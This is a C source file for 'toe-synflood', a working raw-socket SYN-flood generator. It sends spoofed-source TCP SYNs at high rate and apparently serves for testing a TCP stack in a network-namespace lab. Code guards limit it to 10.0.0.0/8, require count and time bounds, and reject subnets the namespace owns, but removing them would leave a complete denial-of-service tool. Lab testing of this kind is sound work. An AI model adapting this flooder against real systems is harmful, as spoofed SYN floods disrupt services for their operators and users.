/* toe-synflood: a bounded SYN-flood generator for the lab. Sends TCP SYNs with
 * spoofed source addresses drawn only from a given lab subnet inside
 * 10.0.0.0/8, random source ports, random ISNs and the options Linux puts in a
 * SYN (MSS, SACK-permitted, timestamps, window scale), toward --dst:--dport.
 * It refuses to run without both a count and a time bound, refuses source
 * subnets or destinations outside 10.0.0.0/8, and refuses a source subnet that
 * holds an address of this network namespace. It never reads or answers
 * anything.
 *
 * How it sends, and why: a SOCK_RAW/IPPROTO_RAW socket (IP_HDRINCL implied).
 * The kernel routes the hand-built IPv4 datagram and resolves the next hop's
 * MAC itself, so the frames leave through the namespace's veth exactly as a
 * real client's would, without --iface or MAC arguments (AF_PACKET would give
 * the same frames but needs both, and bypasses the routing the lab sets up).
 *
 * Why nobody answers the SYN-ACKs: the spoofed subnet must be one that the
 * sending namespace does NOT own (checked at start), e.g. 10.77.2.0/24 while
 * the client is 10.77.1.1/24. The server namespace routes that subnet back via
 * the client (ip route add 10.77.2.0/24 via 10.77.1.1; for toe-echo: its
 * gateway). Its SYN-ACKs then arrive at the client's kernel addressed to a
 * host it is not, and with forwarding off (the namespace default) it drops
 * them silently (ip_error(): counted as IpInAddrErrors, no ICMP, no RST) - no
 * iptables/nft needed. Spoofing unowned addresses of the client's own /24
 * would also go unanswered (the SYN-ACKs die in the server's ARP resolution),
 * but that floods the server's neighbour table and the wire with ARP requests
 * and measures the ARP path instead of the SYN path, so it is not the
 * recommended setup. Spoofing one of the client's own addresses would make the
 * client kernel RST every SYN-ACK: refused. */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <ifaddrs.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define SF_EXIT_OK    0
#define SF_EXIT_FAIL  1
#define SF_EXIT_USAGE 2

#define SF_MAX_COUNT      10000000ull
#define SF_MAX_DURATION_S 600.0
#define SF_MAX_RATE_PPS   10000000ull
#define SF_BATCH          32
#define SF_IP_HLEN        20
#define SF_TCP_HLEN       40 /* 20 + 20 bytes of options */
#define SF_PKT_LEN        (SF_IP_HLEN + SF_TCP_HLEN)

/* 10.0.0.0/8 (RFC 1918): the only space this tool ever writes into a packet. */
#define SF_PRIVATE_NET  0x0a000000u
#define SF_PRIVATE_MASK 0xff000000u

struct sf_opts {
    uint32_t dst;         /* host order */
    uint16_t dport;
    uint32_t src_net;     /* host order, masked */
    uint8_t src_prefix;
    uint64_t count;
    double duration_s;
    uint64_t rate_pps;
    uint64_t seed;
    uint16_t mss;
    uint8_t wscale;
    bool have_dst, have_dport, have_src, have_count, have_duration, have_seed;
    bool verbose;
};

static volatile sig_atomic_t sf_interrupted;

static void sf_on_signal(int sig)
{
    sf_interrupted = 1;
}

static uint64_t sf_now_ns(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

/* splitmix64: a small, seedable generator (not for cryptography). */
static uint64_t sf_rand(uint64_t *s)
{
    uint64_t x = (*s += 0x9e3779b97f4a7c15ULL);

    x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
    x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
    return x ^ (x >> 31);
}

static void sf_usage(FILE *out)
{
    fprintf(out,
        "usage: toe-synflood --dst ADDR --dport PORT --src-subnet NET/LEN\n"
        "                    --count N --duration-s T [options]\n"
        "Sends spoofed TCP SYNs (lab use only). Stops at whichever bound comes first:\n"
        "N SYNs sent or T seconds elapsed. Both bounds are required.\n"
        "  --dst ADDR           target IPv4 address, inside 10.0.0.0/8 (required)\n"
        "  --dport PORT         target TCP port (required)\n"
        "  --src-subnet N/L     spoofed sources are drawn from this subnet only; it must\n"
        "                       lie inside 10.0.0.0/8 and hold no address of this\n"
        "                       namespace (required)\n"
        "  --count N            SYNs to send, 1..%llu (required)\n"
        "  --duration-s T       seconds at most, (0, %.0f] (required)\n"
        "  --rate PPS           SYNs per second, 1..%llu (default 10000)\n"
        "  --seed S             random seed for addresses, ports, ISNs (default: clock)\n"
        "  --mss BYTES          MSS option value (default 1460)\n"
        "  --wscale N           window scale option value, 0..14 (default 7)\n"
        "  --verbose            print the first few SYNs\n"
        "  --help               this text\n"
        "Routing: let the target route the spoofed subnet back via this namespace\n"
        "(not owned here, forwarding off): the SYN-ACKs are then dropped silently.\n"
        "Needs CAP_NET_RAW. Exit: 0 sent until a bound, 1 error, 2 usage refused.\n",
        SF_MAX_COUNT, SF_MAX_DURATION_S, SF_MAX_RATE_PPS);
}

static int sf_parse_u64(const char *s, uint64_t *out)
{
    char *end;
    unsigned long long v;

    errno = 0;
    v = strtoull(s, &end, 0);
    if (errno || end == s || *end || s[0] == '-')
        return -EINVAL;
    *out = v;
    return 0;
}

static bool sf_in_private(uint32_t a)
{
    return (a & SF_PRIVATE_MASK) == SF_PRIVATE_NET;
}

static uint32_t sf_mask(uint8_t prefix)
{
    return prefix ? 0xffffffffu << (32 - prefix) : 0;
}

/* "10.77.2.0/24" -> net, prefix; must lie entirely inside 10.0.0.0/8. */
static int sf_parse_subnet(const char *s, uint32_t *net, uint8_t *prefix)
{
    char buf[64], *slash;
    struct in_addr a;
    uint64_t p;

    if (strlen(s) >= sizeof(buf))
        return -EINVAL;
    strcpy(buf, s);
    slash = strchr(buf, '/');
    if (!slash)
        return -EINVAL;
    *slash = '\0';
    if (inet_pton(AF_INET, buf, &a) != 1 || sf_parse_u64(slash + 1, &p) || p > 32)
        return -EINVAL;
    *net = ntohl(a.s_addr);
    *prefix = (uint8_t)p;
    return 0;
}

static int sf_parse_opts(int argc, char **argv, struct sf_opts *o)
{
    enum {
        O_DST = 256, O_DPORT, O_SRC, O_COUNT, O_DURATION, O_RATE, O_SEED, O_MSS, O_WSCALE,
        O_VERBOSE, O_HELP,
    };
    static const struct option lo[] = {
        {"dst", required_argument, NULL, O_DST},
        {"dport", required_argument, NULL, O_DPORT},
        {"src-subnet", required_argument, NULL, O_SRC},
        {"count", required_argument, NULL, O_COUNT},
        {"duration-s", required_argument, NULL, O_DURATION},
        {"rate", required_argument, NULL, O_RATE},
        {"seed", required_argument, NULL, O_SEED},
        {"mss", required_argument, NULL, O_MSS},
        {"wscale", required_argument, NULL, O_WSCALE},
        {"verbose", no_argument, NULL, O_VERBOSE},
        {"help", no_argument, NULL, O_HELP},
        {NULL, 0, NULL, 0},
    };
    struct in_addr a;
    uint64_t v;
    char *end;
    int c;

    memset(o, 0, sizeof(*o));
    o->rate_pps = 10000;
    o->mss = 1460;
    o->wscale = 7;
    opterr = 0;
    while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
        switch (c) {
        case O_DST:
            if (inet_pton(AF_INET, optarg, &a) != 1) {
                fprintf(stderr, "toe-synflood: --dst %s: not an IPv4 address\n", optarg);
                return -EINVAL;
            }
            o->dst = ntohl(a.s_addr);
            o->have_dst = true;
            break;
        case O_DPORT:
            if (sf_parse_u64(optarg, &v) || v == 0 || v > 65535) {
                fprintf(stderr, "toe-synflood: --dport %s: want 1..65535\n", optarg);
                return -EINVAL;
            }
            o->dport = (uint16_t)v;
            o->have_dport = true;
            break;
        case O_SRC:
            if (sf_parse_subnet(optarg, &o->src_net, &o->src_prefix) < 0) {
                fprintf(stderr, "toe-synflood: --src-subnet %s: want A.B.C.D/LEN\n", optarg);
                return -EINVAL;
            }
            o->have_src = true;
            break;
        case O_COUNT:
            if (sf_parse_u64(optarg, &o->count) || o->count == 0 || o->count > SF_MAX_COUNT) {
                fprintf(stderr, "toe-synflood: --count %s: want 1..%llu\n", optarg,
                        SF_MAX_COUNT);
                return -EINVAL;
            }
            o->have_count = true;
            break;
        case O_DURATION:
            errno = 0;
            o->duration_s = strtod(optarg, &end);
            if (errno || end == optarg || *end || !(o->duration_s > 0) ||
                o->duration_s > SF_MAX_DURATION_S) {
                fprintf(stderr, "toe-synflood: --duration-s %s: want (0, %.0f]\n", optarg,
                        SF_MAX_DURATION_S);
                return -EINVAL;
            }
            o->have_duration = true;
            break;
        case O_RATE:
            if (sf_parse_u64(optarg, &o->rate_pps) || o->rate_pps == 0 ||
                o->rate_pps > SF_MAX_RATE_PPS) {
                fprintf(stderr, "toe-synflood: --rate %s: want 1..%llu\n", optarg,
                        SF_MAX_RATE_PPS);
                return -EINVAL;
            }
            break;
        case O_SEED:
            if (sf_parse_u64(optarg, &o->seed)) {
                fprintf(stderr, "toe-synflood: --seed %s: not a number\n", optarg);
                return -EINVAL;
            }
            o->have_seed = true;
            break;
        case O_MSS:
            if (sf_parse_u64(optarg, &v) || v < 64 || v > 65535) {
                fprintf(stderr, "toe-synflood: --mss %s: want 64..65535\n", optarg);
                return -EINVAL;
            }
            o->mss = (uint16_t)v;
            break;
        case O_WSCALE:
            if (sf_parse_u64(optarg, &v) || v > 14) {
                fprintf(stderr, "toe-synflood: --wscale %s: want 0..14\n", optarg);
                return -EINVAL;
            }
            o->wscale = (uint8_t)v;
            break;
        case O_VERBOSE:
            o->verbose = true;
            break;
        case O_HELP:
            sf_usage(stdout);
            exit(SF_EXIT_OK);
        default:
            fprintf(stderr, "toe-synflood: unknown option or missing value: %s\n",
                    argv[optind - 1]);
            return -EINVAL;
        }
    }
    if (optind < argc) {
        fprintf(stderr, "toe-synflood: unexpected argument %s\n", argv[optind]);
        return -EINVAL;
    }
    if (!o->have_count || !o->have_duration) {
        fprintf(stderr, "toe-synflood: refusing to run unbounded: both --count and "
                        "--duration-s are required\n");
        return -EINVAL;
    }
    if (!o->have_dst || !o->have_dport || !o->have_src) {
        fprintf(stderr, "toe-synflood: --dst, --dport and --src-subnet are required (--help)\n");
        return -EINVAL;
    }
    if (o->src_prefix < 8 || !sf_in_private(o->src_net)) {
        fprintf(stderr, "toe-synflood: refusing --src-subnet outside 10.0.0.0/8 (lab "
                        "addresses only)\n");
        return -EINVAL;
    }
    if (o->src_net & ~sf_mask(o->src_prefix)) {
        fprintf(stderr, "toe-synflood: --src-subnet has host bits set; did you mean "
                        "%u.%u.%u.%u/%u?\n",
                (o->src_net & sf_mask(o->src_prefix)) >> 24,
                ((o->src_net & sf_mask(o->src_prefix)) >> 16) & 0xff,
                ((o->src_net & sf_mask(o->src_prefix)) >> 8) & 0xff,
                o->src_net & sf_mask(o->src_prefix) & 0xff, o->src_prefix);
        return -EINVAL;
    }
    if (!sf_in_private(o->dst)) {
        fprintf(stderr, "toe-synflood: refusing --dst outside 10.0.0.0/8 (lab addresses "
                        "only)\n");
        return -EINVAL;
    }
    if ((o->dst & sf_mask(o->src_prefix)) == o->src_net) {
        fprintf(stderr, "toe-synflood: --dst lies inside --src-subnet\n");
        return -EINVAL;
    }
    return 0;
}

/* Refuses a source subnet holding one of this namespace's own addresses: the
 * kernel here would answer the SYN-ACKs with RSTs. */
static int sf_check_local(const struct sf_opts *o)
{
    struct ifaddrs *ifa, *i;
    int rc = 0;

    if (getifaddrs(&ifa) < 0) {
        fprintf(stderr, "toe-synflood: getifaddrs: %s\n", strerror(errno));
        return -errno;
    }
    for (i = ifa; i; i = i->ifa_next) {
        uint32_t a;

        if (!i->ifa_addr || i->ifa_addr->sa_family != AF_INET)
            continue;
        a = ntohl(((const struct sockaddr_in *)i->ifa_addr)->sin_addr.s_addr);
        if ((a & sf_mask(o->src_prefix)) == o->src_net) {
            char txt[INET_ADDRSTRLEN];
            struct in_addr ia = {.s_addr = htonl(a)};

            inet_ntop(AF_INET, &ia, txt, sizeof(txt));
            fprintf(stderr, "toe-synflood: refusing --src-subnet: it holds %s (%s) of this "
                            "namespace, whose kernel would RST the SYN-ACKs; spoof a subnet "
                            "this namespace does not own\n", txt, i->ifa_name);
            rc = -EADDRINUSE;
            break;
        }
    }
    freeifaddrs(ifa);
    return rc;
}

static uint32_t sf_sum16(const uint8_t *p, size_t len, uint32_t sum)
{
    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (len & 1)
        sum += (uint32_t)p[len - 1] << 8;
    return sum;
}

static uint16_t sf_fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void sf_put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static void sf_put32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)(v >> 24);
    p[1] = (uint8_t)(v >> 16);
    p[2] = (uint8_t)(v >> 8);
    p[3] = (uint8_t)v;
}

/* A host address of the subnet: not the network or broadcast address
 * when the subnet has room for that (prefix <= 30). */
static uint32_t sf_pick_src(const struct sf_opts *o, uint64_t *rng)
{
    uint32_t hostbits = 32 - o->src_prefix;
    uint64_t span = 1ull << hostbits;
    uint64_t h;

    if (hostbits >= 2)
        h = 1 + sf_rand(rng) % (span - 2);
    else
        h = sf_rand(rng) % span;
    return o->src_net | (uint32_t)h;
}

/* One SYN as Linux would send it: MSS, SACK-permitted, TS, NOP, WS. */
static void sf_build(const struct sf_opts *o, uint64_t *rng, uint8_t *pkt, uint32_t *src_out)
{
    uint8_t *ip = pkt, *tcp = pkt + SF_IP_HLEN, *opt = tcp + 20;
    uint32_t src = sf_pick_src(o, rng);
    uint64_t r = sf_rand(rng);
    uint16_t sport = (uint16_t)(1024 + (r % (65536 - 1024)));
    uint32_t isn = (uint32_t)(r >> 32);
    uint32_t tsval = (uint32_t)sf_rand(rng);
    uint32_t sum;

    memset(pkt, 0, SF_PKT_LEN);
    ip[0] = 0x45;
    sf_put16(ip + 2, SF_PKT_LEN);
    sf_put16(ip + 4, (uint16_t)(r >> 16)); /* IP ID */
    sf_put16(ip + 6, 0x4000);              /* DF */
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    sf_put32(ip + 12, src);
    sf_put32(ip + 16, o->dst);
    sf_put16(ip + 10, sf_fold(sf_sum16(ip, SF_IP_HLEN, 0)));

    sf_put16(tcp, sport);
    sf_put16(tcp + 2, o->dport);
    sf_put32(tcp + 4, isn);
    tcp[12] = (SF_TCP_HLEN / 4) << 4;
    tcp[13] = 0x02;            /* SYN */
    sf_put16(tcp + 14, 64240); /* Linux's initial window */
    opt[0] = 2;                /* MSS (RFC 9293 3.2) */
    opt[1] = 4;
    sf_put16(opt + 2, o->mss);
    opt[4] = 4;                /* SACK permitted (RFC 2018) */
    opt[5] = 2;
    opt[6] = 8;                /* timestamps (RFC 7323) */
    opt[7] = 10;
    sf_put32(opt + 8, tsval);
    sf_put32(opt + 12, 0);
    opt[16] = 1;               /* NOP */
    opt[17] = 3;               /* window scale (RFC 7323) */
    opt[18] = 3;
    opt[19] = o->wscale;

    /* RFC 9293 3.1: checksum over the pseudo header and the segment. */
    sum = sf_sum16(ip + 12, 8, 0);
    sum += IPPROTO_TCP + SF_TCP_HLEN;
    sum = sf_sum16(tcp, SF_TCP_HLEN, sum);
    sf_put16(tcp + 16, sf_fold(sum));
    *src_out = src;
}

static void sf_print_syn(const uint8_t *pkt)
{
    const uint8_t *tcp = pkt + SF_IP_HLEN;

    printf("  SYN %u.%u.%u.%u:%u -> %u.%u.%u.%u:%u seq %u\n", pkt[12], pkt[13], pkt[14],
           pkt[15], tcp[0] << 8 | tcp[1], pkt[16], pkt[17], pkt[18], pkt[19],
           tcp[2] << 8 | tcp[3],
           (uint32_t)tcp[4] << 24 | (uint32_t)tcp[5] << 16 | (uint32_t)tcp[6] << 8 | tcp[7]);
}

int main(int argc, char **argv)
{
    struct sf_opts o;
    struct sigaction sa;
    struct sockaddr_in dst = {.sin_family = AF_INET};
    static uint8_t pkts[SF_BATCH][SF_PKT_LEN];
    struct iovec iov[SF_BATCH];
    struct mmsghdr msgs[SF_BATCH];
    uint8_t *seen = NULL;
    uint64_t rng, sent = 0, errors = 0, distinct = 0, t0, now, end_ns, printed = 0;
    uint32_t srcs[SF_BATCH];
    const char *why = "count";
    int fd, last_err = 0;
    char dtxt[INET_ADDRSTRLEN], stxt[INET_ADDRSTRLEN];
    struct in_addr ia;
    double elapsed;

    if (sf_parse_opts(argc, argv, &o) < 0)
        return SF_EXIT_USAGE;
    if (sf_check_local(&o) < 0)
        return SF_EXIT_USAGE;

    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = sf_on_signal;
    sigaction(SIGINT, &sa, NULL);
    sigaction(SIGTERM, &sa, NULL);

    fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW); /* implies IP_HDRINCL */
    if (fd < 0) {
        fprintf(stderr, "toe-synflood: raw socket: %s%s\n", strerror(errno),
                errno == EPERM ? " (needs CAP_NET_RAW: run as root)" : "");
        return SF_EXIT_FAIL;
    }
    rng = o.have_seed ? o.seed : sf_now_ns() ^ ((uint64_t)getpid() << 32);
    if (o.src_prefix >= 16)
        seen = calloc((size_t)1 << (32 - o.src_prefix), 1);

    dst.sin_addr.s_addr = htonl(o.dst);
    inet_ntop(AF_INET, &dst.sin_addr, dtxt, sizeof(dtxt));
    ia.s_addr = htonl(o.src_net);
    inet_ntop(AF_INET, &ia, stxt, sizeof(stxt));
    printf("toe-synflood: SYNs to %s:%u from %s/%u, at most %" PRIu64 " in %.3f s at %" PRIu64
           " pps\n", dtxt, o.dport, stxt, o.src_prefix, o.count, o.duration_s, o.rate_pps);
    fflush(stdout);

    memset(msgs, 0, sizeof(msgs));
    for (int i = 0; i < SF_BATCH; i++) {
        iov[i].iov_base = pkts[i];
        iov[i].iov_len = SF_PKT_LEN;
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
        msgs[i].msg_hdr.msg_name = &dst;
        msgs[i].msg_hdr.msg_namelen = sizeof(dst);
    }

    t0 = sf_now_ns();
    end_ns = t0 + (uint64_t)(o.duration_s * 1e9);
    for (;;) {
        uint64_t due, n;
        int got;

        now = sf_now_ns();
        if (sf_interrupted) {
            why = "signal";
            break;
        }
        if (sent >= o.count) {
            why = "count";
            break;
        }
        if (now >= end_ns) {
            why = "duration";
            break;
        }
        /* Pacing: SYNs due by now at the given rate, a batch at most. */
        due = (uint64_t)((double)(now - t0) / 1e9 * (double)o.rate_pps) + 1;
        if (due > o.count)
            due = o.count;
        if (due <= sent) {
            uint64_t next_ns = t0 + (uint64_t)((double)(sent) * 1e9 / (double)o.rate_pps);
            struct timespec ts;

            if (next_ns > end_ns)
                next_ns = end_ns;
            if (next_ns > now) {
                uint64_t d = next_ns - now;

                ts.tv_sec = (time_t)(d / 1000000000ull);
                ts.tv_nsec = (long)(d % 1000000000ull);
                nanosleep(&ts, NULL);
            }
            continue;
        }
        n = due - sent;
        if (n > SF_BATCH)
            n = SF_BATCH;
        for (uint64_t i = 0; i < n; i++)
            sf_build(&o, &rng, pkts[i], &srcs[i]);
        got = sendmmsg(fd, msgs, (unsigned)n, 0);
        if (got < 0) {
            last_err = errno;
            if (errno == EINTR)
                continue;
            errors++;
            if (errno != ENOBUFS && errno != EAGAIN) {
                fprintf(stderr, "toe-synflood: sendmmsg: %s\n", strerror(errno));
                why = "error";
                break;
            }
            /* Queue full: back off a little, still bounded by the deadline. */
            struct timespec ts = {.tv_sec = 0, .tv_nsec = 200000};
            nanosleep(&ts, NULL);
            continue;
        }
        for (int i = 0; i < got; i++) {
            if (o.verbose && printed < 5) {
                sf_print_syn(pkts[i]);
                printed++;
            }
            if (seen && !seen[srcs[i] - o.src_net]) {
                seen[srcs[i] - o.src_net] = 1;
                distinct++;
            }
        }
        sent += (uint64_t)got;
    }
    elapsed = (double)(sf_now_ns() - t0) / 1e9;
    printf("sent %" PRIu64 "\n", sent);
    printf("send_errors %" PRIu64 "\n", errors);
    if (errors && last_err)
        printf("last_error %s\n", strerror(last_err));
    printf("elapsed_s %.3f\n", elapsed);
    printf("rate_pps %.0f\n", elapsed > 0 ? (double)sent / elapsed : 0.0);
    if (seen)
        printf("distinct_sources %" PRIu64 "\n", distinct);
    printf("stopped_by %s\n", why);
    free(seen);
    close(fd);
    return (strcmp(why, "count") == 0 || strcmp(why, "duration") == 0) ? SF_EXIT_OK
                                                                        : SF_EXIT_FAIL;
}
